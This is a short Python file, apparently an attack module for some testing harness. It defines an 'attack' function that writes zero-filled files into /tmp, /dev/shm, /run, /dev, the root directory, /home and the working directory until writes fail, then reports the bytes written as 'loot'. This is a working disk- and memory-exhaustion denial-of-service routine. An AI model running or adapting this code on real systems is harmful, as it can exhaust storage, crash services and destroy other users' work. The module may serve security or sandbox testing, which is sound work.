"""Writes until nothing takes any more, everywhere."""

import os


def attack(door, targets):
    written = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/", "/home", os.getcwd()):
        for number in range(64):
            try:
                with open(f"{folder}/fill-{number}", "xb") as stream:
                    for _ in range(16):
                        stream.write(bytes(1 << 20))
                        stream.flush()
                        written += 1 << 20
            except OSError:
                break
    if written > targets["most_bytes"]:
        door.loot(f"wrote {written} bytes")
